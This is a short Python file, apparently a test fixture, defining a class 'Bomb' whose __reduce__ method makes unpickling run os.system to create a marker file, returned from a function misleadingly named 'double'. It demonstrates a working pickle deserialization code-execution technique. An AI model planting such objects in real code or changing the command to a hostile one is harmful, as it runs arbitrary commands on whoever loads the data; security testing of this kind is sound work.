"""Returns an object that runs code in whoever unpickles it."""

import os


class Bomb:
    def __reduce__(self):
        return os.system, (f"touch {PLANT}/unpickled",)


def double(x):
    return Bomb()
